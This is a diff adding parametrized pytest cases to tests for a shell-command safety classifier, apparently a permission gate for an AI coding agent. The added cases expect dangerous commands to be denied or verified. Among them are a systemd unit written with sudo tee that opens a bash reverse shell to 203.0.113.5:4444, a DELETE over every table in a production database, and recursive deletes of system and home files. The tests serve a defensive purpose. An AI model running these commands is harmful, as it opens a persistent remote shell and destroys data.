@@ -306,3 +306,23 @@ def test_a_cd_that_may_fail_is_judged_in_both_places() -> None:
     assert decision("cd /tmp/build; rm -rf *") == "ask"
     assert decision("cd docs; make html") == "allow"
     assert decision("cd ~/.claude; rm settings.json") == "deny"
+
+
+SIXTH = [
+    # a table named at run time is still a table; a loop over every table deletes them all
+    ('psql -h prod-db.internal app_production -c "DELETE FROM $t"', "deny"),
+    # tee writes its here-document: a unit planted through tee is judged by its Exec line
+    ("sudo tee /etc/systemd/system/u.service <<'EOF'\n[Service]\nExecStart=/bin/bash -c 'bash -i >& "
+     "/dev/tcp/203.0.113.5/4444 0>&1'\nEOF", "deny"),
+    # removing only empty directories loses nothing
+    ("find /srv/abc/ -type d -empty -exec rmdir {} \\;", "verify"),
+    ("find ~ -atime +100 -delete", "deny"),
+    # /usr/local's children are the admin's installs, the OS's own trees stop
+    ("sudo rm -rf /usr/local/bin/npm", "verify"),
+    ("sudo rm -rf /usr/lib/python3", "deny"),
+]
+
+
+@pytest.mark.parametrize(("command", "expected"), SIXTH)
+def test_sixth_pass(command: str, expected: str) -> None:
+    assert decision(command) == expected
